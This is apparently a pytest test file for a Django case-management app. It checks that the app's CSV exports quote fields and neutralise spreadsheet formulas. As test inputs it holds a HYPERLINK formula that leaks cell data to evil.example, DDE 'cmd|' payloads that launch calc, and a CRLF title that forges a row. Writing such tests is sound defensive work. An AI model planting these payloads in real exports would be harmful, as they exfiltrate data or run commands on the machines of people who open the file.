"""CSV injection (security review, finding 15): every CSV of the app (the bordereau inside the ZIP
export, the dashboard, the access log) is quoted, so that a title cannot forge a row, and a field
that a spreadsheet would run as a formula starts with an apostrophe. UTF-8 with a BOM and ';' as
delimiter, for a French Excel."""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cases.csv_export import BOM, csv_bytes, neutralise
from cases.csv_export import cell as csv_cell
from cases.models import Document
from cases.pdfgen import simple_pdf
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
FILE_FORMULA = "=SUM(1+1)*cmd|' -C calc'!A0"  # no slash: a file name keeps its last path component only
FORGED = "Note\r\n99;01/01/2026;Pièce forgée;La juridiction;forged.pdf;0"


def _rows(data: bytes) -> list[list[str]]:
    """As a French Excel reads it: the UTF-8 byte order mark, then fields separated by ';'."""
    assert data.startswith(BOM.encode("utf-8")), "UTF-8 with a BOM, for Excel"
    text = data[len(BOM.encode("utf-8")) :].decode("utf-8")
    assert ";" in text.split("\r\n", 1)[0], "';' is the list separator of a French Excel"
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
            assert not cell.startswith(("\t", "\r")), cell


# --- The module ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+33 1 23 45 67 89", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "  =1+1", "\n=1", " \t@x"],
)
def test_a_leading_formula_character_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Certificat médical initial", "26/01234", "a=b", "", "12", "N°"])
def test_plain_text_is_left_alone(value):
    assert neutralise(value) == value


def test_none_is_an_empty_field():
    assert neutralise(None) == ""


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (date(2027, 1, 5), "05/01/2027"),
        (datetime(2027, 1, 5, 9, 7), "05/01/2027 09:07"),
        (Decimal("1234.50"), "1234,50"),
        (Decimal("-12.5"), "-12,5"),  # a number the module writes: no apostrophe, Excel reads a number
        (0.25, "0,25"),
        (800, "800"),
        (True, "oui"),
        (False, "non"),
        (None, ""),
        ("-12.5", "'-12.5"),  # text that looks like a formula keeps its apostrophe
    ],
)
def test_dates_and_numbers_in_the_french_form(value, text):
    """French Excel: dates dd/mm/yyyy, a decimal comma, no thousands separator."""
    assert csv_cell(value) == text


def test_a_csv_with_dates_and_decimals_reads_back_as_excel_shows_it():
    data = csv_bytes(["jour", "montant"], [[date(2026, 10, 1), Decimal("1200.00")]])
    assert data.startswith(BOM.encode("utf-8") + b"jour;montant\r\n")
    assert _rows(data) == [["jour", "montant"], ["01/10/2026", "1200,00"]]


def test_fields_with_a_delimiter_a_quote_or_a_line_break_are_quoted_and_read_back_whole():
    values = ["a;b", 'dit "non"', "ligne 1\nligne 2", "retour\rchariot", "fin\r\n", "simple"]
    data = csv_bytes(["h"] * len(values), [values])
    text = data.decode("utf-8-sig")
    for value in values[:-1]:
        assert '"' + value.replace('"', '""') + '"' in text
    assert _rows(data) == [["h"] * len(values), values]


# --- Over HTTP -----------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_title_can_neither_forge_a_row_nor_run_a_formula_in_the_bordereau(client):
    m = factories.mission()
    expert = factories.lead_expert(m)
    victim = factories.party(m, is_victim=True)
    avocat = factories.represent(victim)
    # The victim's avocat uploads a piece whose file name is a formula: its title is taken from it.
    client.force_login(avocat)
    upload = SimpleUploadedFile(f"{FILE_FORMULA}.pdf", simple_pdf(["Pièce"]), content_type="application/pdf")
    response = client.post(
        reverse("cases:mission_documents", args=[m.pk]),
        {"files": [upload], "produced_by": f"party:{victim.pk}", "date": "2026-09-10"},
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    uploaded = m.documents.get()
    assert uploaded.title == FILE_FORMULA
    # A title with a line break and semicolons, stored before titles were checked: still one field.
    other = factories.document(m, title="Ordonnance")
    Document.objects.filter(pk=other.pk).update(title=FORGED)
    client.force_login(expert)
    response = client.get(reverse("cases:mission_export", args=[m.pk]))
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = _rows(archive.read("bordereau.csv"))
    assert rows[0] == ["N°", "Date", "Pièce", "Produite par", "Fichier", "SHA-256"]
    assert len(rows) == 3, rows  # the header and the two pieces: no forged row
    titles = {int(r[0]): r[2] for r in rows[1:]}
    assert titles == {uploaded.number: "'" + FILE_FORMULA, other.number: FORGED}
    assert all(r[0] != "99" for r in rows)
    _no_formula(rows)


@pytest.mark.django_db
def test_the_dashboard_csv_neutralises_formulas(client):
    court = factories.CourtFactory()
    sneaky = factories.expert(name="@SUM(1+1)*cmd|' /C calc'!A0")
    factories.mission(court=court, expert_user=sneaky, title=FORMULA)
    client.force_login(factories.clerk(court))
    response = client.get("/?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in response["Cache-Control"]
    assert response.content.startswith(BOM.encode("utf-8") + b"RG;affaire;")
    rows = _rows(response.content)
    assert rows[0][:2] == ["RG", "affaire"]
    assert rows[1][1] == "'" + FORMULA
    assert rows[1][3] == "'" + sneaky.name
    _no_formula(rows)


@pytest.mark.django_db
def test_the_access_log_csv_neutralises_formulas_in_names_and_titles(client):
    m = factories.mission()
    expert = factories.lead_expert(m)
    victim = factories.party(m, is_victim=True)
    avocat = factories.represent(victim, user=factories.UserFactory(role="avocat", name="-1+1 Me Formule"))
    doc = factories.medical(m, victim, title="+33 1 23 45 67 89; faux")
    client.force_login(avocat)
    assert client.get(reverse("cases:document_download", args=[doc.pk])).status_code == 200
    client.force_login(expert)
    response = client.get(reverse("cases:mission_access_log", args=[m.pk]) + "?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = _rows(response.content)
    assert len(rows) == 2, rows
    assert "'-1+1 Me Formule" in rows[1]
    assert "'" + doc.title in rows[1]
    _no_formula(rows)
